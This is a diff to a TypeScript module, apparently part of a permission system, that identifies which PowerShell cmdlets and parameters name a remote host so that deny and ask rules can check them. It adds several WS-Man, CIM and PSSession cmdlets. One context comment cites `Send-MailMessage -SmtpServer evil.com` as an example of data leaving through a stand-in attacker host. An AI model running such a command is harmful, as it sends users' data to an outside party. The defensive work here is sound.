@@ -4,7 +4,8 @@
 // runs there (WinRM), `Send-MailMessage -SmtpServer evil.com` sends through it.
 //
 // - cmdlets whose first positional parameter is the host (Test-Connection, Test-NetConnection,
-//   Enter-PSSession, New-PSSession, Test-WSMan, Invoke-Command, Restart-/Stop-Computer): bound by
+//   Enter-PSSession, New-PSSession, Connect-/Receive-PSSession, Test-WSMan, Connect-WSMan,
+//   New-CimSession, Invoke-Command, Restart-/Stop-Computer): bound by
 //   cmdlet-parameters.ts, and a word whose parameter is not known is read as a host too (a host
 //   more is harmless: only deny and ask rules see it);
 // - any other command: the value of -ComputerName (-Cn, a prefix from -Compu), -SmtpServer, -Server,
@@ -58,6 +59,12 @@ const POSITIONAL_HOSTS: ReadonlyMap<string, CmdletParameters> = new Map([
     switch: `asjob indisconnectedsession/disconnected hidecomputername/hcn remotedebug nonewscope ${SESSION_SWITCHES}` }, false)],
   ['Test-WSMan', cmdlet('computername', { host: 'computername/cn', value: 'authentication port applicationname credential certificatethumbprint', switch: 'usessl' }, false)],
   ['Restart-Computer', COMPUTER], ['Stop-Computer', COMPUTER],
+  // (A WS-Man connection or CIM session to the host, and a disconnected session's host: position 0 too.)
+  ['Connect-WSMan', cmdlet('computername', { host: 'computername/cn connectionuri', value: 'applicationname authentication/auth/am certificatethumbprint credential/cred/c optionset/os port sessionoption/so',
+    switch: 'usessl' }, false)],
+  ['New-CimSession', cmdlet('computername', { host: 'computername/cn', value: 'authentication certificatethumbprint credential name operationtimeoutsec/ot port sessionoption',
+    switch: 'skiptestconnection' }, false)],
+  ['Connect-PSSession', SESSION], ['Receive-PSSession', SESSION],
   // (A name lookup reaches the name's nameserver, as ping does: its -Name and -Server.)
   ['Resolve-DnsName', cmdlet('name type', { host: 'name server', value: 'type/querytype interfaceindex',
     switch: 'dnsonly cacheonly dnssecok dnssecCd noHostsFile llmnrnetbiosonly llmnrfallback llmnronly netbiosfallback norecursion quickTimeout tcponly' }, false)],
